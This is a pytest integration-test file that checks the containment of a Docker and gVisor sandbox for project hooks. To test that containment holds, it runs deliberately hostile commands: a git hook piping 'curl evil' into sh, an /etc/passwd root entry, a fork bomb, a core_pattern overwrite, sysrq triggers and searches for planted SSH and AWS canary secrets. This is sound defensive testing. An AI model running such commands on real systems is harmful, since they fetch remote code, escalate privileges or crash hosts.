"""The docker backend against the real engine, with hostile hooks.

One test per case of SECURITY-CASES "Sandbox containment" (numbered in the
test names), each asserting the containment AND a sane ``RunResult``; then
the profile's knobs (workspace modes, mounts, cwd, transcript), exit codes,
stream separation, engine trouble and ``reap``. The conftest fails any test
that leaves a ``hookcage.managed`` container behind.

Every test that runs hooks does so twice: ``cold`` (a fresh container per
run, ``DockerSandbox``) and ``warm`` (a pre-started pooled container,
``PooledDockerSandbox``; the helpers fill the pool for the run's key first
and check the run was indeed served warm).

Nothing here leaves the machine: the network is disabled, so connects fail
with "network unreachable" before a packet is built, and the hook that tries
them first checks that only ``lo`` exists.
"""

from __future__ import annotations

import contextlib
import io
import os
import resource
import secrets
import shutil
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docker.errors  # type: ignore[import-untyped, unused-ignore]
import pytest

from executor.core.options import SandboxOptions
from executor.errors import SandboxUnavailable
from executor.sandbox import orphans
from executor.sandbox.base import RunRequest, RunResult, Sandbox
from executor.sandbox.docker import (
    EXPIRES_LABEL,
    MANAGED_LABEL,
    DockerSandbox,
    engine_info,
    reap,
)
from executor.sandbox.docker.profile import relays_output
from executor.sandbox.pool import PooledDockerSandbox

pytestmark = pytest.mark.docker

MiB = 1024 * 1024
# The conftest spares containers labelled with another session's id (see there).
LABELS = {
    "hookcage.hook": "integration",
    "hookcage.test-session": os.environ["HOOKCAGE_TEST_SESSION"],
}
SESSION_LABELS = {"hookcage.test-session": os.environ["HOOKCAGE_TEST_SESSION"]}
SESSION_FILTER = [f"{MANAGED_LABEL}=true", f"hookcage.test-session={os.environ['HOOKCAGE_TEST_SESSION']}"]


SandboxMaker = Callable[..., DockerSandbox]


def _unavailable(message: str) -> None:
    """A runtime this machine lacks: a failure on CI (it installs and registers runsc), a skip elsewhere."""
    if os.environ.get("CI") == "true" or os.environ.get("HOOKCAGE_REQUIRE_DOCKER"):
        pytest.fail(message, pytrace=False)
    pytest.skip(message)


@pytest.fixture(scope="session")
def engine_runtimes(docker_api: Any) -> list[str]:
    """The OCI runtimes the engine has (runsc once ``hookcage setup runsc`` registered it)."""
    return list(engine_info(docker_api)["runtimes"])


@pytest.fixture(params=["runc-cold", "runc-warm", "runsc-cold", "runsc-warm", "runc-warmsh"])
def make_sandbox(
    request: pytest.FixtureRequest, docker_api: Any, runner_image: str, engine_runtimes: list[str]
) -> Iterator[SandboxMaker]:
    """Makes docker backends of this test's runtime (``runc``: the host's kernel; ``runsc``: gVisor)
    and path (``cold``, ``warm``: the pool, whose containers run the job runner, as the runner image has
    python3, or ``warmsh``: the pool with the sh bootstrap, what an image without python3 runs); closes
    them after. Every containment case holds on every one."""
    runtime, path = request.param.split("-")
    if runtime not in engine_runtimes:
        _unavailable(f"the engine has no {runtime} runtime: apt-get install runsc && hookcage setup runsc")
    made: list[DockerSandbox] = []

    def make(**options: Any) -> DockerSandbox:
        options.setdefault("image", runner_image)
        options.setdefault("runtime", runtime)
        backend: DockerSandbox
        if path in ("warm", "warmsh"):
            options.setdefault("job_runner", path == "warm")
            backend = PooledDockerSandbox(
                client=docker_api, labels=SESSION_LABELS, idle_timeout=120, **options
            )
        else:
            backend = DockerSandbox(client=docker_api, **options)
        made.append(backend)
        return backend

    yield make
    for backend in made:
        backend.close()


@pytest.fixture
def sandbox(make_sandbox: SandboxMaker) -> Iterator[DockerSandbox]:
    with make_sandbox() as backend:
        assert isinstance(backend, DockerSandbox)
        yield backend


def run_request(sandbox: Sandbox, request: RunRequest, *, warm: bool = True) -> RunResult:
    """``sandbox.run(request)``; on a pool, fill it for the request first and check
    the run was served warm (``warm=False``: also accept a cold run)."""
    return timed_run_request(sandbox, request, warm=warm)[0]


def timed_run_request(
    sandbox: Sandbox, request: RunRequest, *, warm: bool = True
) -> tuple[RunResult, float]:
    """``run_request`` and the seconds the run itself took (filling the pool aside)."""
    if not isinstance(sandbox, PooledDockerSandbox):
        began = time.monotonic()
        return sandbox.run(request), time.monotonic() - began
    assert sandbox.prewarm(request, wait=30), "the pool did not fill"
    began = time.monotonic()
    result, path = sandbox.run_with_path(request)
    elapsed = time.monotonic() - began
    assert path == "warm" or not warm, f"served {path}"
    return result, elapsed


def run(
    sandbox: Sandbox,
    workspace: Path,
    command: str,
    *,
    timeout: float = 10.0,
    cwd: Path | None = None,
    warm: bool = True,
    **kwargs: Any,
) -> RunResult:
    """Run ``command`` the way the executor would for a hook of this project."""
    return timed_run(
        sandbox, workspace, command, timeout=timeout, cwd=cwd, warm=warm, **kwargs
    )[0]


def timed_run(
    sandbox: Sandbox,
    workspace: Path,
    command: str,
    *,
    timeout: float = 10.0,
    cwd: Path | None = None,
    warm: bool = True,
    **kwargs: Any,
) -> tuple[RunResult, float]:
    """``run``, and the seconds the run took (filling the pool aside)."""
    request = RunRequest(
        command=command,
        cwd=str(cwd or workspace),
        env={"CLAUDE_PROJECT_DIR": str(workspace)},
        timeout=timeout,
        project_dir=str(workspace),
        labels=LABELS,
        **kwargs,
    )
    return timed_run_request(sandbox, request, warm=warm)


def listed(docker_api: Any, label: str) -> list[Any]:
    """The engine's containers with ``label``, all states.

    Podman's API can answer a listing 500 (``read /proc/N/cgroup: no such
    process``) when a container's process exits while it lists: asked again,
    it answers. Only that answer is asked again (three times at most)."""
    for attempt in range(3):
        try:
            return list(docker_api.containers(all=True, filters={"label": label}))
        except docker.errors.APIError as error:
            if attempt == 2 or error.status_code != 500 or "no such process" not in str(error):
                raise
            time.sleep(0.2)
    raise AssertionError("unreachable")


def managed_containers(docker_api: Any) -> list[Any]:
    return listed(docker_api, f"{MANAGED_LABEL}=true")


def session_containers(docker_api: Any) -> list[Any]:
    """The managed containers this test session labelled as its own (others may share the engine)."""
    return listed(docker_api, SESSION_FILTER)


def run_containers_left(docker_api: Any, sandbox: Sandbox) -> list[str]:
    """This session's managed containers left after a run, a pool's spares aside.

    A cold run removes its container before it returns; a pooled run's is
    removed in the background right after, so it gets two seconds.
    """
    deadline = time.monotonic() + (2.0 if isinstance(sandbox, PooledDockerSandbox) else 0.0)
    while True:
        spares = set(sandbox.spares()) if isinstance(sandbox, PooledDockerSandbox) else set()
        left = [
            c["Id"]
            for c in listed(docker_api, SESSION_FILTER)
            if c["Id"] not in spares
        ]
        if not left or time.monotonic() >= deadline:
            return left
        time.sleep(0.05)


def lines(data: bytes) -> list[str]:
    return data.decode().splitlines()


# --------------------------------------------------------------------------
# Sandbox containment, cases 1-23
# --------------------------------------------------------------------------


def gvisor(sandbox: Sandbox) -> bool:
    """Whether the sandbox's containers run under gVisor (its kernel words some refusals differently)."""
    return sandbox.runtime() == "runsc"


def test_01_workspace_is_read_only(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        'grep -F " $CLAUDE_PROJECT_DIR " /proc/mounts | cut -d" " -f4 | cut -d, -f1; '
        'touch "$CLAUDE_PROJECT_DIR/x"; echo "t=$?"; echo pwned > "$CLAUDE_PROJECT_DIR/README.md"',
    )
    assert result.exit_code == 2  # the redirection's failure
    assert lines(result.stdout) == ["ro", "t=1"]  # mounted read-only, and the write failed
    # gVisor checks the directory's permission before the mount's read-only flag (EACCES, not EROFS).
    assert b"Read-only file system" in result.stderr or (gvisor(sandbox) and b"Permission denied" in result.stderr)
    assert not (workspace / "x").exists()
    assert (workspace / "README.md").read_text() == "hello from the workspace\n"


def test_02_git_hooks_and_nested_mounts_are_not_writable(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    nested = workspace / "nested"
    nested.mkdir(mode=0o755)
    mounted = False
    if os.geteuid() == 0:
        subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "mode=1777,size=1m", "hc", str(nested)], check=True
        )
        mounted = True
        (nested / "secret").write_text("inside a host mount\n")
    try:
        result = run(
            sandbox,
            workspace,
            'printf "#!/bin/sh\\ncurl evil|sh\\n" > .git/hooks/pre-commit; echo "git=$?"; '
            'echo pwned > nested/pwn; echo "nested=$?"; cat nested/secret',
        )
        assert result.exit_code == 1  # cat: the host mount is not carried in
        assert lines(result.stdout) == ["git=2", "nested=2"]
        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
        assert not (nested / "pwn").exists()
        assert b"inside a host mount" not in result.stdout
    finally:
        if mounted:
            subprocess.run(["umount", str(nested)], check=True)


def test_03_root_filesystem_is_read_only(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        'echo "evil:x:0:0::/:/bin/sh" >> /etc/passwd; echo "passwd=$?"; '
        'touch /usr/bin/x; echo "usr=$?"; awk \'$2 == "/" {print $4}\' /proc/mounts',
    )
    assert result.exit_code == 0
    passwd, usr, options = lines(result.stdout)
    assert passwd == "passwd=2" and usr == "usr=1"
    assert "ro" in options.split(",")
    assert b"Read-only file system" in result.stderr or b"Permission denied" in result.stderr


@pytest.mark.alone  # it reads the host's disk usage: no other test may write meanwhile
def test_04_filling_tmp_stops_at_the_tmpfs_cap(sandbox: DockerSandbox, workspace: Path) -> None:
    docker_root = "/var/lib/docker" if os.path.isdir("/var/lib/docker") else "/"
    before = shutil.disk_usage(docker_root).used
    result = run(
        sandbox,
        workspace,
        "i=0; while [ $i -lt 200 ]; do i=$((i+1)); "
        "dd if=/dev/zero of=/tmp/fill$i bs=1M count=32 status=none || break; done; "
        "du -sk /tmp | cut -f1",
        timeout=30,
    )
    after = shutil.disk_usage(docker_root).used
    assert result.exit_code == 0 and not result.timed_out
    assert b"No space left on device" in result.stderr
    assert int(result.stdout) <= 64 * 1024 + 64  # KiB: the 64m cap, plus rounding
    assert after - before < 32 * MiB  # tmpfs lives in memory, not on the host disk


def test_05_binaries_in_tmp_do_not_execute(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(sandbox, workspace, "cp /bin/true /tmp/t && chmod +x /tmp/t && /tmp/t")
    assert result.exit_code == 126
    assert b"Permission denied" in result.stderr


def test_06_no_name_resolution_and_only_loopback(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        'getent hosts example.com; echo "getent=$?"; '
        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; ip -o link | cut -d: -f2",
    )
    assert result.exit_code == 0
    assert lines(result.stdout) == ["getent=2", "lo", " lo"]
    assert result.duration < 5


CONNECT_SCRIPT = r"""
if tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | grep -qv '^lo$'; then
    echo "an interface other than lo exists: not trying to connect" >&2; exit 99
fi
exec python3 - <<'EOF'
import errno, socket, time
targets = [
    (socket.AF_INET, ("172.17.0.1", 2375)),   # the Docker bridge gateway
    (socket.AF_INET, ("10.0.0.1", 80)),       # a private address
    (socket.AF_INET, ("1.1.1.1", 443)),       # a public address
    (socket.AF_INET6, ("2606:4700:4700::1111", 443, 0, 0)),
]
for family, address in targets:
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(1)
    began = time.monotonic()
    try:
        s.connect(address)
        print(address[0], "CONNECTED")
    except OSError as exc:
        name = errno.errorcode.get(exc.errno, "timeout") if exc.errno else "timeout"
        print(address[0], name, round(time.monotonic() - began, 2))
    finally:
        s.close()
EOF
"""


def test_07_no_connection_leaves_the_container(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(sandbox, workspace, CONNECT_SCRIPT)
    assert result.exit_code == 0, result.stderr
    outcomes = [line.split() for line in lines(result.stdout)]
    assert [o[0] for o in outcomes] == ["172.17.0.1", "10.0.0.1", "1.1.1.1", "2606:4700:4700::1111"]
    # No route: nothing was sent (gVisor's network stack says EHOSTUNREACH for the same thing).
    unreachable = {"ENETUNREACH", "EHOSTUNREACH"} if gvisor(sandbox) else {"ENETUNREACH"}
    for address, error, seconds in outcomes:
        assert error in unreachable, address
        assert float(seconds) < 0.5, address


def test_08_raw_and_packet_sockets_are_refused(sandbox: DockerSandbox, workspace: Path) -> None:
    script = r"""
import socket
for family, kind, proto in [
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    (socket.AF_PACKET, socket.SOCK_RAW, 0),
]:
    try:
        socket.socket(family, kind, proto)
        print("OPENED")
    except PermissionError as exc:
        print("EPERM" if exc.errno == 1 else exc)
try:  # an unprivileged "ping socket" may open, but there is nowhere to send
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    print("SENT")
except OSError as exc:
    print("ping failed", exc.errno)
"""
    result = run(sandbox, workspace, f"python3 -c '{script}'")
    assert result.exit_code == 0, result.stderr
    out = lines(result.stdout)
    assert out[:3] == ["EPERM", "EPERM", "EPERM"]
    assert out[3].startswith("ping failed")


def test_09_docker_socket_is_absent(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        "for p in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do "
        'test -e "$p" && echo "present $p"; done; '
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/var/run/docker.sock\")'",
    )
    assert result.exit_code == 1
    assert result.stdout == b""
    assert b"FileNotFoundError" in result.stderr


@pytest.mark.alone  # a fork bomb loads the machine, and the kill is bounded in time
def test_10_fork_bomb_is_stopped_by_the_pids_limit(sandbox: DockerSandbox, workspace: Path) -> None:
    bystander: list[RunResult] = []

    def bystander_hook() -> None:
        time.sleep(1)  # while the bomb is at its limit
        bystander.append(run(sandbox, workspace, "echo still here", timeout=10))

    thread = threading.Thread(target=bystander_hook)
    thread.start()
    # The bomb starts in a subshell: the hook's own shell forks once, before the bomb grows (dash
    # forks both halves of `f|f&` itself: its second fork can lose the race to the first half's
    # children and end the shell with "Cannot fork"), then loops without forking so the bomb keeps
    # going until the timeout.
    result, elapsed = timed_run(
        sandbox,
        workspace,
        "(f(){ f|f& }; f); while :; do :; done",
        timeout=3,
        options=SandboxOptions(pids=64),
    )
    thread.join(15)
    assert result.timed_out and result.exit_code is None and not result.oom_killed
    assert b"Cannot fork" in result.stderr or b"Resource temporarily unavailable" in result.stderr
    assert elapsed < 3 + 2.5
    assert bystander and bystander[0].exit_code == 0 and bystander[0].stdout == b"still here\n"


def test_11_memory_hog_is_oom_killed_without_swap(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        "cd /sys/fs/cgroup/memory 2>/dev/null && cat memory.limit_in_bytes memory.memsw.limit_in_bytes; "
        'python3 -c \'x = b"x" * (512 << 20); print("survived")\'',
        options=SandboxOptions(memory="64m"),
    )
    assert result.oom_killed is True
    assert result.exit_code is None and not result.timed_out
    assert b"survived" not in result.stdout
    limits = lines(result.stdout)
    if limits:  # cgroup v1: memory+swap limit equals the memory limit (no swap)
        assert limits == [str(64 * MiB), str(64 * MiB)]


@pytest.mark.alone  # the kill at the timeout is bounded in time
def test_12_busy_loop_is_killed_at_the_timeout(sandbox: DockerSandbox, workspace: Path) -> None:
    result, elapsed = timed_run(sandbox, workspace, "echo started; while :; do :; done", timeout=2)
    assert result.timed_out is True
    assert result.exit_code is None and not result.oom_killed
    assert result.stdout == b"started\n"
    assert 2 <= elapsed < 2 + 2


@pytest.mark.parametrize(
    "command",
    [
        "setsid nohup sleep 9999 >/dev/null 2>&1 & echo detached",
        "setsid nohup sleep 9999 & echo detached",  # the daemon keeps our stdout open
        "(sleep 9999 &); echo detached",
    ],
)
@pytest.mark.alone  # the run's end is bounded in time
def test_13_background_children_do_not_hang_the_run(
    sandbox: DockerSandbox, workspace: Path, docker_api: Any, command: str
) -> None:
    result, elapsed = timed_run(sandbox, workspace, command, timeout=20)
    assert elapsed < 10  # a run that waits for the children runs into the 20 s timeout
    assert result.exit_code == 0 and not result.timed_out
    assert result.stdout == b"detached\n"
    assert run_containers_left(docker_api, sandbox) == []


def test_14_endless_output_is_capped_and_memory_stays_bounded(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    result, elapsed = timed_run(sandbox, workspace, "yes | head -c 5G", timeout=10, output_cap=MiB)
    rss_growth = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) * 1024
    assert result.stdout == b"y\n" * (MiB // 2)
    assert result.stdout_truncated and not result.stderr_truncated
    # Either all 5 GB streamed through (and were discarded) or the timeout hit.
    assert (result.exit_code == 0 and not result.timed_out) or (
        result.timed_out and result.exit_code is None
    )
    assert elapsed < 10 + 2.5
    assert rss_growth < 200 * MiB


# A flood of output under both runtimes (issue 21): gVisor hands a program a short count when the
# container's pipe to the engine is full (64 KiB per write), where Linux blocks until all is written;
# CPython's unbuffered stdout (-u, or the runner image's PYTHONUNBUFFERED=1) and any single write(2)
# then lost the rest without a word: 10 MB came back as 64 KiB, "truncated: false". Every case below
# must come back as runc gives it: the first MiB kept, truncated past it, whatever wrote it.
PY_WRITE = "python3 -u -c 'import os, sys; {}'"
FLOODS = {
    # name: (command, stdout, stderr, stdout truncated, stderr truncated)
    "stdout-10MB-one-write": (PY_WRITE.format('sys.stdout.write("x" * 10_000_000)'),
                              b"x" * MiB, b"", True, False),
    "stderr-10MB-one-write": (PY_WRITE.format('sys.stderr.write("e" * 10_000_000)'),
                              b"", b"e" * MiB, False, True),
    "both-10MB-raw-write": (PY_WRITE.format('os.write(1, b"x" * 10_000_000); os.write(2, b"e" * 10_000_000)'),
                            b"x" * MiB, b"e" * MiB, True, True),
    "yes-10MB": ("yes | head -c 10000000", b"y\n" * (MiB // 2), b"", True, False),
    "flood-then-json-line": (PY_WRITE.format('print("x" * 10_000_000)') + '; echo \'{"decision": "block"}\'',
                             b"x" * MiB, b"", True, False),
    "json-flood": ("printf '{\"a\":\"'; head -c 10M /dev/zero | tr '\\0' x; printf '\"}'",
                   b'{"a":"' + b"x" * (MiB - 6), b"", True, False),
    "json-flood-one-write": (PY_WRITE.format('sys.stdout.write("{\\"a\\":\\"" + "x" * 10_000_000 + "\\"}")'),
                             b'{"a":"' + b"x" * (MiB - 6), b"", True, False),
    "exactly-the-cap": (PY_WRITE.format(f'sys.stdout.write("x" * {MiB}); sys.stderr.write("e" * {MiB})'),
                        b"x" * MiB, b"e" * MiB, False, False),
    "cap-plus-one": (PY_WRITE.format(f'sys.stdout.write("x" * {MiB + 1}); sys.stderr.write("e" * {MiB + 1})'),
                     b"x" * MiB, b"e" * MiB, True, True),
}


@pytest.mark.parametrize("case", list(FLOODS))
def test_14b_a_flood_is_kept_to_the_cap_and_said_truncated_under_every_runtime(
    sandbox: DockerSandbox, workspace: Path, case: str
) -> None:
    command, stdout, stderr, out_cut, err_cut = FLOODS[case]
    result = run(sandbox, workspace, command, timeout=60, output_cap=MiB)
    assert (result.exit_code, result.timed_out, result.oom_killed) == (0, False, False)
    assert (len(result.stdout), len(result.stderr)) == (len(stdout), len(stderr))
    assert (result.stdout, result.stderr) == (stdout, stderr)
    assert (result.stdout_truncated, result.stderr_truncated) == (out_cut, err_cut)


def test_14c_the_answer_to_a_flood_is_runcs(sandbox: DockerSandbox, workspace: Path) -> None:
    # A JSON document cut at the cap: the verdict runc gives (not valid JSON, an error), never a
    # verdict read from 64 KiB that happened to arrive.
    from executor.core.events import get_event
    from executor.core.protocol import parse_outcome

    command = FLOODS["json-flood-one-write"][0]
    result = run(sandbox, workspace, command, timeout=60, output_cap=MiB)
    outcome = parse_outcome(get_event("PreToolUse"), "flood", result.exit_code, result.stdout, result.stderr)
    assert result.truncated and outcome.status == "error"
    assert outcome.error is not None and "not valid JSON" in outcome.error


def test_14d_a_background_child_holding_stdout_after_a_flood_does_not_hold_the_run(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    # The relay under gVisor waits for its copies of the hook's pipes: a leftover that keeps them
    # open is killed when the hook exits, as a direct run's end takes it, and what the hook wrote
    # before it exited all comes out.
    result = run(sandbox, workspace, "(sleep 9999 &); " + PY_WRITE.format('sys.stdout.write("x" * 300_000)'),
                 timeout=30)
    assert (result.exit_code, result.timed_out) == (0, False)
    assert result.stdout == b"x" * 300_000 and not result.truncated


def test_14e_a_hook_that_kills_what_carries_its_output_never_gets_a_clean_whole_run(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    # The hook's parent is the pool's bootstrap (warm), the relay's shell (cold under gVisor) or init
    # (cold under runc: the kill fails). Killing it ends the container with output in flight: that
    # run is an error (137) and, warm, its streams are marked truncated (no end marker came); never a
    # clean exit with whatever happened to arrive.
    result = run(sandbox, workspace, "echo before; kill -9 $PPID; sleep 1; echo after", timeout=30)
    if result.exit_code == 0:
        assert result.stdout == b"before\nafter\n" and not result.truncated
    else:
        assert result.exit_code == 137 and not result.timed_out
        if isinstance(sandbox, PooledDockerSandbox):
            assert result.stdout_truncated and result.stderr_truncated


def test_15_escape_sequences_and_invalid_utf8_come_back_byte_exact(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    result = run(
        sandbox,
        workspace,
        r"printf '\033]0;pwned\007\033[2J\033[31mred\377\376\300\n'; printf '\033[?1049h\r' >&2",
    )
    assert result.exit_code == 0
    assert result.stdout == b"\x1b]0;pwned\x07\x1b[2J\x1b[31mred\xff\xfe\xc0\n"
    assert result.stderr == b"\x1b[?1049h\r"


def test_16_host_environment_does_not_leak(
    sandbox: DockerSandbox, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    canary = f"canary-{secrets.token_hex(8)}"
    monkeypatch.setenv("HOOKCAGE_CANARY_SECRET", canary)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", canary)
    result = run(sandbox, workspace, "env; echo ---; tr '\\0' '\\n' < /proc/1/environ")
    assert result.exit_code == 0
    assert canary.encode() not in result.stdout
    assert b"HOOKCAGE_CANARY_SECRET" not in result.stdout
    env, proc1 = result.stdout.split(b"---\n")
    assert b"HOME=/tmp\n" in env and b"LANG=C.UTF-8\n" in env
    assert f"CLAUDE_PROJECT_DIR={workspace}\n".encode() in env
    assert b"PATH=" in proc1  # /proc/1/environ was readable, and clean


@pytest.fixture
def host_ssh_canary() -> Iterator[tuple[Path, str]]:
    home = Path.home()
    ssh = home / ".ssh"
    created_dir = not ssh.exists()
    ssh.mkdir(mode=0o700, exist_ok=True)
    canary = f"canary-{secrets.token_hex(8)}"
    canary_file = ssh / f"hookcage_{canary}"  # one per test: other test sessions may plant theirs
    canary_file.write_text(canary)
    try:
        yield home, canary
    finally:
        canary_file.unlink()
        if created_dir:
            with contextlib.suppress(OSError):  # another session's canary may still be in it
                ssh.rmdir()


@pytest.mark.parametrize("user", [None, "0:0"], ids=["default-user", "container-root"])
def test_17_host_home_secrets_are_not_present(
    make_sandbox: SandboxMaker,
    workspace: Path,
    host_ssh_canary: tuple[Path, str],
    user: str | None,
) -> None:
    home, canary = host_ssh_canary
    # As root in the container too: absence, not merely a permission error.
    with make_sandbox(user=user) as backend:
        result = run_request(
            backend,
            RunRequest(
                labels=LABELS,
                # find, not ls: Debian's runsc fails coreutils' ls (statx), which would hide what is there.
                command=f"for d in {home}/.ssh {home}/.aws {home}/.config /root/.ssh /home; do "
                'test -e "$d" && find "$d" -mindepth 1 -maxdepth 1 | sed "s|^|$d: |"; done; '
                f"cat {home}/.ssh/hookcage_canary*; grep -rs {canary} / --exclude-dir=proc --exclude-dir=sys",
                project_dir=str(workspace),
                cwd=str(workspace),
                timeout=90,  # reading every file of the image through gVisor's gofer is slow on a loaded machine
            ),
        )
    assert not result.timed_out
    assert result.exit_code != 0  # cat found nothing, grep found nothing
    assert canary.encode() not in result.stdout
    assert b"hookcage_canary" not in result.stdout
    assert b".ssh" not in result.stdout and b".aws" not in result.stdout


SUID_DOCKERFILE = """\
FROM {base}
USER 0
RUN cp /usr/bin/id /usr/local/bin/suid-id && chmod 4755 /usr/local/bin/suid-id
USER 65534
"""


@pytest.fixture(scope="module")
def suid_image(docker_api: Any, runner_image: str) -> Iterator[str]:
    """A throwaway image FROM the runner with a setuid-root copy of ``id``."""
    tag = f"hookcage-test/suid:{secrets.token_hex(4)}"
    dockerfile = io.BytesIO(SUID_DOCKERFILE.format(base=runner_image).encode())
    log = list(
        docker_api.build(
            fileobj=dockerfile, tag=tag, rm=True, forcerm=True, network_mode="none", decode=True
        )
    )
    errors = [entry for entry in log if "error" in entry]
    if errors:
        pytest.fail(f"could not build the setuid test image: {errors}")
    yield tag
    docker_api.remove_image(tag, force=True)


def test_18_setuid_binaries_and_su_do_not_raise_privileges(
    make_sandbox: SandboxMaker, suid_image: str, workspace: Path
) -> None:
    with make_sandbox(image=suid_image) as backend:
        result = run(
            backend,
            workspace,
            # The mode from python: Debian's runsc (20221219) fails coreutils' ls -l (statx with AT_NO_AUTOMOUNT).
            "python3 -c 'import os, stat; print(stat.filemode(os.stat(\"/usr/local/bin/suid-id\").st_mode))'; "
            "/usr/local/bin/suid-id -u; id -u; "
            # PR_GET_NO_NEW_PRIVS (gVisor's /proc/self/status has no NoNewPrivs line)
            "python3 -c 'import ctypes; print(\"NoNewPrivs:\", ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))'; "
            'su -c id root </dev/null; echo "su=$?"; command -v sudo || echo no-sudo',
        )
    assert result.exit_code == 0
    mode, suid_uid, uid, nnp, su, sudo = lines(result.stdout)
    assert mode == "-rwsr-xr-x"  # the bit is there...
    assert suid_uid == uid == "65534"  # ...and ignored
    assert nnp == "NoNewPrivs: 1"
    assert su != "su=0"
    assert sudo == "no-sudo"


AMBIENT = (  # PR_CAP_AMBIENT_IS_SET for every capability: 1 = raised; gVisor has no ambient set (-1, EINVAL)
    "python3 -c 'import ctypes; c = ctypes.CDLL(None); "
    "print(\"ambient:\", sum(c.prctl(47, 1, n, 0, 0) == 1 for n in range(64)))'"
)


def test_19_no_capabilities(sandbox: DockerSandbox, workspace: Path) -> None:
    result = run(
        sandbox,
        workspace,
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | cut -f2; " + AMBIENT + "; "
        'mknod /tmp/mem c 1 1; echo "mknod=$?"; head -c1 /tmp/mem >/dev/null; echo "read=$?"; '
        'touch /tmp/f; chown 0:0 /tmp/f; echo "chown=$?"',
    )
    assert result.exit_code == 0
    out = lines(result.stdout)
    sets = 4 if gvisor(sandbox) else 5  # gVisor's /proc/self/status has no CapAmb line (no ambient set)
    assert out[:sets] == ["0000000000000000"] * sets
    # gVisor (20221219) lets mknod make the node without CAP_MKNOD, but the node reaches no device of the
    # host (nor of gVisor: "No such device or address"); under runc mknod itself is refused.
    mknod = "mknod=0" if gvisor(sandbox) else "mknod=1"
    assert out[sets:] == ["ambient: 0", mknod, "read=1", "chown=1"]
    assert result.stderr.count(b"Operation not permitted") == (1 if gvisor(sandbox) else 2)


@pytest.mark.parametrize("user", [None, "0:0"], ids=["default-user", "container-root"])
def test_20_mount_and_unshare_are_refused(
    make_sandbox: SandboxMaker, workspace: Path, user: str | None
) -> None:
    with make_sandbox(user=user) as backend:
        result = run(
            backend,
            workspace,
            'mount -t tmpfs none /tmp; echo "mount=$?"; unshare -Urm true; echo "unshare=$?"; '
            'unshare -m true; echo "unshare_m=$?"',
        )
    assert result.exit_code == 0
    assert [line.split("=")[1] != "0" for line in lines(result.stdout)] == [True, True, True]


def test_21_kernel_knobs_are_denied_or_masked(sandbox: DockerSandbox, workspace: Path) -> None:
    core_pattern = Path("/proc/sys/kernel/core_pattern").read_text()
    result = run(
        sandbox,
        workspace,
        'echo c > /proc/sysrq-trigger; echo "sysrq=$?"; '
        'echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern; echo "core=$?"; '
        'echo "kcore=$(head -c 16 /proc/kcore 2>/dev/null | wc -c)"',
    )
    assert result.exit_code == 0
    assert lines(result.stdout) == ["sysrq=2", "core=2", "kcore=0"]
    assert Path("/proc/sys/kernel/core_pattern").read_text() == core_pattern


def test_22_only_the_containers_processes_are_visible(
    sandbox: DockerSandbox, workspace: Path
) -> None:
    result = run(sandbox, workspace, "ps -e -o pid=,comm=")
    assert result.exit_code == 0
    processes = {tuple(line.split(None, 1)) for line in lines(result.stdout)}
    assert ("1", "docker-init") in processes
    # The hook's sh and ps; the self-ending watch (a sh and its sleep: docker.self_ending); under
    # gVisor the relay of the hook's output (executor.sandbox.relay: a waiting sh and two cat).
    relay = relays_output(sandbox.profile)
    warm = isinstance(sandbox, PooledDockerSandbox)
    # Warm with the job runner (the runner image has python3: sandbox/jobrunner.py), the runner is the
    # one process beside the hook: it relays output itself and keeps its watch as an alarm.
    runner = warm and sandbox.job_runner
    if runner:
        assert {comm for _, comm in processes} <= {"docker-init", "python3", "sh", "ps"}
        assert sum(comm == "python3" for _, comm in processes) == 1
        assert len(processes) <= 4
        return
    # Warm, the watch is the bootstrap's, started before the job: as the hook starts it may still be
    # leaving its wait for the job (its `timeout` and a sh reading) for its `sleep` (warmjob.BOOTSTRAP).
    assert {comm for _, comm in processes} <= {"docker-init", "sh", "ps", "sleep", *(["cat"] if relay else []),
                                                 *(["timeout"] if warm else [])}
    assert sum(comm == "sleep" for _, comm in processes) == 1 or warm
    assert sum(comm == "cat" for _, comm in processes) == (2 if relay else 0)
    # Warm: the pool's bootstrap (an sh) waits for the hook, nothing else (it is the relay's sh).
    expected = 6 + 1 if warm else 5
    assert len(processes) <= expected + (2 if relay else 0) + (1 if relay and not warm else 0)


@pytest.mark.parametrize(
    ("stdin", "command", "expected"),
    [
        (b"z" * (10 * MiB), "exit 0", b""),
        (b"z" * (10 * MiB), "cat | wc -c", b"10485760\n"),
        (b"z" * (10 * MiB), "head -c 10; echo", b"zzzzzzzzzz\n"),
        (b"", "cat | wc -c", b"0\n"),
    ],
    ids=["ignored", "read-all", "read-some", "none"],
)
